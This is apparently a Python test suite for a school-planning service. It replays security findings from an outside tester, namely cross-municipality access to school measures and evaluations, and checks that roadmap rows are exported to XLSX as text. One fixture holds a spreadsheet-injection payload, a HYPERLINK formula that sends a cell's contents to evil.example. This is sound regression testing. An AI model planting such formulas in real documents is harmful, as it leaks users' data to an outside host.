"""The paths found by the outside tester (issue 14), replayed on the real broker and database:
a measure on another municipality's school and its evaluation; plans objects for foreign
schools; a formula typed into a roadmap row and exported to XLSX."""

from __future__ import annotations

import asyncio
import io
import zipfile

from openpyxl import load_workbook

from shkala_contracts import Tenant
from shkala_contracts.events.indicators import IndicatorValueChanged, Scope
from shkala_contracts.events.plans import TOPIC as PLANS
from shkala_contracts.events.plans import LinkedIndicator
from shkala_contracts.vocabulary import Direction
from shkala_plans.adapters.event_store import EVENTS
from shkala_plans.domain.model import Measure
from shkala_plans.service_layer import services
from shkala_runtime.auth import Role
from shkala_runtime.kafka import EventPublisher, Outgoing
from shkala_runtime.mongo import database

from .conftest import auth, read_topic, running

FOREIGN = "sch-x"  # m2's school (conftest.REGISTRY)


async def publish_values(settings, school: str, mun: str, values: dict[str, float]) -> None:
    pub = EventPublisher(settings)
    await pub.start()
    try:
        await pub.publish(
            [
                Outgoing.of(
                    IndicatorValueChanged(
                        originator_id=f"ind:{school}:vpr_mark2_share:{period}",
                        originator_version=1,
                        region_id=settings.region_id,
                        municipality_id=mun,
                        school_id=school,
                        indicator_id="vpr_mark2_share",
                        direction="low_results",
                        scope=Scope.SCHOOL,
                        period=period,
                        definition_version="1",
                        old_value=None,
                        new_value=v,
                        numerator=v,
                        denominator=100,
                    ),
                    source="/test/indicators",
                    originator_version=1,
                    tenant=Tenant(region=settings.region_id, municipality=mun, school=school),
                )
                for period, v in values.items()
            ]
        )
    finally:
        await pub.stop()


def measure_body(mun: str, schools: list[str]) -> dict:
    return {
        "municipality_id": mun,
        "title": "Мера",
        "direction": "low_results",
        "target_schools": schools,
        "indicators": [{"indicator_id": "vpr_mark2_share", "better": "lower"}],
        "baseline_period": "2023/24",
        "evaluation_period": "2024/25",
    }


async def test_a_measure_on_a_foreign_school_is_refused_and_so_is_its_evaluation(settings):
    async with running(settings) as (svc, client):
        await publish_values(settings, FOREIGN, "m2", {"2023/24": 30.0, "2024/25": 20.0})
        for _ in range(100):
            if await svc.deps.values.values_for([FOREIGN], ["2023/24", "2024/25"]):
                break
            await asyncio.sleep(0.1)
        store = database(svc.mongo, svc.settings)[EVENTS]
        before = await store.count_documents({})
        m1 = auth(settings, Role.MUNICIPALITY, municipality="m1")
        # found: a measure on another municipality's school, under the caller's own id
        r = await client.post("/measures", headers=m1, json=measure_body("m1", [FOREIGN]))
        assert r.status_code == 403, r.text
        assert "sch-x" in r.json()["detail"]
        assert await store.count_documents({}) == before

        # a measure that already names the foreign school (taken before these checks, as
        # the tester's was): written straight into the store, not through the API
        legacy, _ = await services.execute(
            svc.deps,
            Measure,
            services.new_id("measure"),
            lambda a: a.decide_take(
                region=settings.region_id,
                municipality="m1",
                title="Мера до проверок",
                direction=Direction.LOW_RESULTS,
                target_schools=(FOREIGN,),
                indicators=(LinkedIndicator(indicator_id="vpr_mark2_share", better="lower"),),
                baseline_period="2023/24",
                evaluation_period="2024/25",
            ),
            must_exist=False,
        )
        before = await store.count_documents({})
        # found: evaluate returned the foreign school's baseline and evaluation values
        r = await client.post(f"/measures/{legacy.id}/evaluate", headers=m1)
        assert r.status_code == 403, r.text
        assert "changes" not in r.json()  # no baseline or evaluation value of sch-x
        r = await client.get(f"/measures/{legacy.id}", headers=m1)
        assert r.status_code == 403, r.text
        r = await client.get("/measures", headers=m1, params={"full": "true"})
        assert r.status_code == 200, r.text
        assert legacy.id not in {m["id"] for m in r.json()}  # nor in the whole list
        assert await store.count_documents({}) == before  # no evaluation was recorded
        # the region may: the values are in its tenant
        r = await client.post(
            f"/measures/{legacy.id}/evaluate", headers=auth(settings, Role.REGION)
        )
        assert r.status_code == 200, r.text
        assert r.json()["changes"][0]["change"] == -10.0


async def test_plans_objects_for_foreign_schools_are_refused_and_the_log_stays_clean(settings):
    async with running(settings) as (_, client):
        m1 = auth(settings, Role.MUNICIPALITY, municipality="m1")
        rm = (
            await client.post(
                "/roadmaps", headers=m1, json={"municipality_id": "m1", "title": "ДК"}
            )
        ).json()
        refused = [
            ("POST", "/roadmaps", {"municipality_id": "m1", "school_id": FOREIGN, "title": "x"}),
            ("POST", "/roadmaps", {"municipality_id": "m2", "title": "x"}),
            (
                "POST",
                f"/roadmaps/{rm['id']}/rows",
                {"expected_version": rm["version"], "activity": "x", "target_schools": [FOREIGN]},
            ),
            (
                "POST",
                "/recommendations",
                {
                    "municipality_id": "m1",
                    "school_id": FOREIGN,
                    "direction": "low_results",
                    "period": "2024/25",
                    "text": "x",
                },
            ),
            ("POST", "/measures", measure_body("m1", ["sch-a", FOREIGN])),
        ]
        for method, path, body in refused:
            r = await client.request(method, path, headers=m1, json=body)
            assert r.status_code == 403, (path, r.text)
            assert r.headers["content-type"].startswith("application/problem+json")
        # the plans topic carries the roadmap and nothing that names the foreign school
        records = await read_topic(settings, PLANS, expect=1)
        assert len(records) == 1
        assert all(FOREIGN.encode() not in (x.value or b"") for x in records)


async def test_a_formula_in_a_roadmap_row_is_exported_as_text(settings):
    hostile = '=HYPERLINK("http://evil.example/?d="&C5,"Отчёт")'
    async with running(settings) as (_, client):
        h = auth(settings, Role.MUNICIPALITY, municipality="m1")
        rm = (
            await client.post(
                "/roadmaps", headers=h, json={"municipality_id": "m1", "title": "=1+1"}
            )
        ).json()
        r = await client.post(
            f"/roadmaps/{rm['id']}/rows",
            headers=h,
            json={
                "expected_version": rm["version"],
                "activity": hostile,
                "deadline": "до 01.09 ежегодно",
                "responsible": ["@руководитель"],
                "expected_result": "-5 % двоек",
                "number": "+1",
            },
        )
        assert r.status_code == 200, r.text
        x = await client.get(f"/roadmaps/{rm['id']}/export.xlsx", headers=h)
        assert x.status_code == 200
        sheet = zipfile.ZipFile(io.BytesIO(x.content)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet  # no formula anywhere in the workbook's sheet
        ws = load_workbook(io.BytesIO(x.content)).active
        assert ws["A1"].value == "=1+1"
        assert ws["A1"].data_type == "s"
        row = next(ws.iter_rows(min_row=4, max_row=4))
        cells = {c.value: c for c in row if c.value}
        for text in (hostile, "@руководитель", "-5 % двоек", "+1"):
            assert cells[text].data_type == "s", text
            assert cells[text].quotePrefix, text
